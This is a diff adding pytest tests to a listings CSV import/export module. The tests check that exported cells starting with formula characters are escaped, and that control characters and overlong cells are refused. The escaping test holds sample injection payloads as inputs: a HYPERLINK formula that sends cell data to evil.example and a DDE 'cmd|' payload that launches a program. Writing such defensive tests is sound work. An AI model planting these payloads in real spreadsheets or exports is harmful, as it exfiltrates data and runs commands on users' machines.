@@ -179,3 +179,52 @@ def test_imported_and_moved_listings_keep_their_latitude_band(session: Session) 
     rows = list(session.scalars(select(Listing)))
     assert any(r.lat == 47.1 for r in rows)
     assert all(r.lat_band == lat_band(r.lat) for r in rows)
+
+
+def _one_row(**cells: str) -> str:
+    """good.csv's header and first row, with some cells replaced."""
+    header, first = (DATA / "good.csv").read_text(encoding="utf-8").splitlines()[:2]
+    delimiter = ";" if header.count(";") > header.count(",") else ","
+    names = header.split(delimiter)
+    row = dict(zip(names, next(csvio.csv.reader([first], delimiter=delimiter)), strict=True))
+    row.update(cells)
+    out = csvio.io.StringIO()
+    writer = csvio.csv.DictWriter(out, fieldnames=names, delimiter=delimiter, lineterminator="\n")
+    writer.writeheader()
+    writer.writerow(row)
+    return out.getvalue()
+
+
+def test_cells_that_a_spreadsheet_would_run_are_exported_as_text(session: Session) -> None:
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open record")'
+    text = _one_row(name=formula, address="@SUM(1+1)*cmd|' /C calc'!A0", fee_note="+1 visit",
+                    source="-2+3")  # fmt: skip
+    report = csvio.import_text(session, text, gazetteer(), today=TODAY)
+    assert report.problems == [] and report.written
+    exported = csvio.export_text(session)
+    for row in csvio.csv.DictReader(csvio.io.StringIO(exported)):
+        text = [v for k, v in row.items() if k not in ("phone", "lat", "lon")]
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in text)
+    assert "'=HYPERLINK" in exported and "'@SUM" in exported and "'+1 visit" in exported
+    # The phone number keeps its +, and the file imports back to the same values.
+    assert "+7" in exported
+    again = csvio.import_text(session, exported, gazetteer(), today=TODAY)
+    assert again.problems == [] and again.updated == 1
+    assert session.scalars(select(Listing)).one().name == formula
+
+
+@pytest.mark.parametrize(
+    ("cells", "column", "message"),
+    [
+        ({"name": "Aigerim\x00 Nurlanova"}, "name", "control character"),
+        ({"address": "Main st.\x07 5"}, "address", "control character"),
+        ({"fee_note": "x" * 301}, "fee_note", "too long: 301 characters"),
+    ],
+)
+def test_control_characters_and_overlong_cells_are_refused_with_line_and_column(
+    session: Session, cells: dict[str, str], column: str, message: str
+) -> None:
+    report = csvio.import_text(session, _one_row(**cells), gazetteer(), today=TODAY)
+    assert not report.written and count(session) == 0
+    [problem] = [p for p in report.problems if p.field == column]
+    assert problem.line == 2 and message in problem.message
